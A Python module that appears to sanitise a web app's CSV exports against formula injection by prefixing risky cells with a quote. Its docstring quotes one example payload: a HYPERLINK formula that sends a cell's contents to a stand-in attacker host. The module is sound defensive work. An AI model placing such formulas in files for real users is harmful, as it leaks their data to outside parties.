"""CSV files the web app hands out, made safe to open in a spreadsheet program.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula: a service named
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run when the file is opened.
OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection) is to put a single quote
in front of such a cell, which spreadsheet programs show as text. Numbers are left as they are
(a negative score stays a number), and so is text that is only a number, such as ``-1.5``.

Every CSV download goes through ``write_rows`` (or ``safe_rows``). The export for moving data
between installations (``manage.py export_audits``, ``audits.transfer``) does not: it is read
back by the import, not opened by people, and must round-trip exactly.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value):
    """The value to write in a cell: numbers unchanged, text that could start a formula
    prefixed with a single quote."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_rows(rows: Iterable[Iterable]) -> Iterable[list]:
    for row in rows:
        yield [safe_cell(value) for value in row]


def write_rows(file, rows: Iterable[Iterable]) -> None:
    """Write rows as CSV to a file-like object (an HttpResponse), every cell made safe."""
    csv.writer(file).writerows(safe_rows(rows))
